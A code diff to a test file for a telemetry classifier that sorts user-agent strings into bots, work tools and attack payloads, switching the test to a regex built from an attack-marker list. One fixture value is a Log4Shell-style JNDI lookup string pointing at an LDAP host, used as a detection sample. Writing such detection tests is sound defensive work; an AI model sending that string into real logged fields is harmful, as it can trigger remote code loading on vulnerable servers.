@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { fixtureAgentsAsReceived } from '../helpers/fixture-agents.ts';
 import { isbot, splitIsbotList } from '../../api/telemetry/classification/isbot-split.ts';
 import { mayBeBot, showsWork } from '../../api/telemetry/classification/classify.ts';
-import { carriesAttackPayload } from '../../api/telemetry/classification/attack-payload.ts';
+import { ATTACK_MARKERS } from '../../api/telemetry/classification/attack-payload.ts';
 
 const userAgents = fixtureAgentsAsReceived;
 
@@ -16,7 +16,8 @@ describe('isbot in two parts', () => {
     expect(userAgents.some((ua) => !isbot(ua))).toBe(true);
   });
 
-  it("answers the classifier's person gate, isbot or a word of work or an attack's payload, in one scan as the three do apart", () => {
+  it("answers the classifier's person gate, isbot or a word of work or an attack's marker, in one scan as the three do apart", () => {
+    const marker = new RegExp(ATTACK_MARKERS.join('|'), 'i');
     const withMore = [
       ...userAgents,
       ...userAgents.slice(0, 500).map((ua) => `${ua} SiteThumbnailer`),
@@ -26,12 +27,10 @@ describe('isbot in two parts', () => {
       'ExtractorX',
       '${jndi:ldap://198.51.100.7:1389/a}',
     ];
-    expect(withMore.filter((ua) => mayBeBot(ua) !== (isbot(ua) || showsWork(ua) || carriesAttackPayload(ua)))).toEqual(
-      [],
-    );
+    expect(withMore.filter((ua) => mayBeBot(ua) !== (isbot(ua) || showsWork(ua) || marker.test(ua)))).toEqual([]);
     // Strings only a word of work or only a payload flags are among them.
     expect(withMore.some((ua) => !isbot(ua) && showsWork(ua))).toBe(true);
-    expect(withMore.some((ua) => !isbot(ua) && !showsWork(ua) && carriesAttackPayload(ua))).toBe(true);
+    expect(withMore.some((ua) => !isbot(ua) && !showsWork(ua) && marker.test(ua))).toBe(true);
   });
 
   it('answers as isbot where each anchored pattern starts the string, and where it does not', () => {
